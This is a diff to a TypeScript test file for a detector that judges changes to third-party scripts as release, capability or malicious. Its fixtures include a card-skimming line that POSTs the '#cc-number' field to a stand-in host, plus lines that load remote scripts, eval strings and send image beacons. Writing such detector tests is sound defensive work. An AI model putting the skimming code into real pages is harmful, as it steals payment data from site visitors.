@@ -2,6 +2,7 @@
 import { assert, constantFrom, integer, property } from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { type ChangeReason, type CompareGiven, type ContentKnowledge, compareScripts, sayReason } from '#changes/index.ts'
+import { judgeScript } from '#detection/index.ts'
 
 const form = `var field = document.querySelector('#email');
 field.addEventListener('change', function () {
@@ -242,10 +243,13 @@ describe('what is known of a content', () => {
   it.each([
     ['the published file of a library', known({ release: { library: 'jquery', version: '3.7.1' } }), 'library-release'],
     ['what three other accounts get', known({ contentAccounts: 3 }), 'seen-elsewhere'],
-  ])('makes %s a release where it only names a new host, and neither theft nor a hidden host less grave', (_, knowledge, code) => {
-    const names = `${library}\nwindow.docs = 'https://docs.lib.example/'`
+  ])('makes %s a release where it only asks a new host, and neither theft nor a hidden host less grave', (_, knowledge, code) => {
+    const names = `${library}\nfetch('https://docs.lib.example/')`
     expect(verdict(library, names)).toBe('capability')
-    expect(compareScripts(library, names, { knowledge })).toMatchObject({ verdict: 'release', reasons: [{ code }, { code: 'new-host' }] })
+    expect(compareScripts(library, names, { knowledge })).toMatchObject({
+      verdict: 'release',
+      reasons: [{ code }, { code: 'new-host' }, { code: 'new-power' }, { code: 'new-contact' }],
+    })
     expect(verdict(library, `${library}\n${thief}`, { knowledge })).toBe('malicious')
     const hidden = `${library}\nwindow.a = '${Buffer.from('https://cdn-metrics.example/').toString('base64')}'`
     expect(verdict(library, hidden, { knowledge })).toBe('capability')
@@ -258,8 +262,38 @@ describe('what is known of a content', () => {
     expect(verdict(library, runs, { knowledge: known({ contentAccounts: 9 }) })).toBe('capability')
   })
 
+  it.each([
+    `window.docs = 'https://docs.lib.example/'`,
+    `throw new Error('See https://docs.lib.example/errors#12 for what to do.')`,
+    `var links = { help: 'https://help.lib.example/start', terms: 'https://lib.example/terms' }`,
+    `console.warn('This will go. Read //docs.lib.example/upgrade before you update.')`,
+    `document.title = 'Powered by https://lib.example'`,
+    `element.textContent = 'https://docs.lib.example/'`,
+  ])('takes a host that is only named for no capability: %s', (added) => {
+    expect(verdict(library, `${library}\n${added}`)).toBe('release')
+  })
+
+  it.each([
+    `var to = 'https://docs.lib.example/'; fetch(to)`,
+    `var links = { help: 'https://docs.lib.example/x.js' }; var s = document.createElement('script'); s.src = links[location.hash]; document.head.append(s)`,
+    `window.docs = atob('aHR0cHM6Ly9kb2NzLmxpYi5leGFtcGxlLw==')`,
+    `var a = 'https://docs.lib.example/'; eval(a.slice(location.length))`,
+    `new Image().src = 'https://docs.lib.example/i'`,
+  ])('takes a host for one that the code may reach: %s', (added) => {
+    expect(verdict(library, `${library}\n${added}`)).toBe('capability')
+  })
+
+  it('tells no theft that was there before', () => {
+    const theft = `addEventListener('change', function (e) { fetch('https://pay.other.example/x', { method: 'POST', body: document.querySelector('#cc-number').value }) })`
+    const judge = (text: string) => judgeScript(text)
+    expect(judgeScript(theft).verdict).toBe('malicious')
+    expect(['release', 'rebuild']).toContain(verdict(theft, `${theft}; var shown = true`, { judge }))
+    expect(verdict('var shown = true', `${theft}; var shown = true`, { judge })).toBe('malicious')
+    expect(verdict(theft, `${theft.replace('pay.other', 'pay.another')}; var shown = true`, { judge })).toBe('malicious')
+  })
+
   it('says nothing where only two others get it', () => {
-    const names = `${library}\nwindow.docs = 'https://docs.lib.example/'`
+    const names = `${library}\nfetch('https://docs.lib.example/')`
     expect(verdict(library, names, { knowledge: known({ contentAccounts: 2 }) })).toBe('capability')
   })
 
